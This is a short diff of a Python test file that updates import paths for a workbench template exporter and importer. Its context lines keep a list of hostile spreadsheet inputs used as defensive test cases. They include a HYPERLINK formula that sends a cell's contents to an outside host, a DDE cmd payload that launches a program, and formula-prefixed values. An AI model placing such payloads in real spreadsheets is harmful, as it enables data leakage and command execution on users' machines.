@@ -10,8 +10,8 @@ import openpyxl
 import pytest
 
 from tests.templates.helpers import demo
-from workbench.templates.exporter import export_template
-from workbench.templates.importer import plan_import
+from workbench.templates.pipeline.exporter import export_template
+from workbench.templates.pipeline.importer import plan_import
 
 HOSTILE = ['=HYPERLINK("http://example.invalid/?"&Summary!C10,"Click")', "=cmd|' /C calc'!A0",
            "+SUM(1,2)", "-2+3", "@SUM(A1)", "\tTabbed"]
